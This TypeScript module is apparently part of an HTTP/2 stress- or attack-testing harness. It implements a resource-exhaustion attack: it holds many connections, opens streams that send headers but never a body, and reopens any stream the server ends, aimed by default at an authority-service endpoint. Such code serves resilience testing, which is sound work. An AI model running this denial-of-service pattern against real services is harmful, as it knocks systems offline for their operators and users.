// Calls over HTTP/2 whose headers come, and whose body never does. One that is ended by the service is opened again.

import { begin } from '../../http2-server/raw-frames.ts';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { CONTENT_TYPES, callBlock, ends, openPeer, type Protocol } from '../attacker/http2-peer.ts';
import { tally } from '../attacker/tally.ts';

const REOPEN_MS = 250;

/** Options: `connections`, `streams` on each, `protocol`, `path`. */
export const attack: Attack = async ({ target, options }) => {
  const { connections, streams, protocol, path = '/ect.v1.AuthorityService/Issue' } = options;
  const block = callBlock(target, String(path), CONTENT_TYPES[protocol as Protocol]);
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      let missing = Number(streams);
      const peer = await openPeer(target, {
        onFrame: (frame) => {
          if (ends(frame)) missing++;
        },
      });
      while (!until.aborted && !peer.isClosed()) {
        tally('calls opened', missing);
        peer.send(...Array.from({ length: missing }, () => begin(peer.nextId(), block)));
        missing = 0;
        await Promise.race([wait(REOPEN_MS, until), peer.closed]);
      }
    });
};
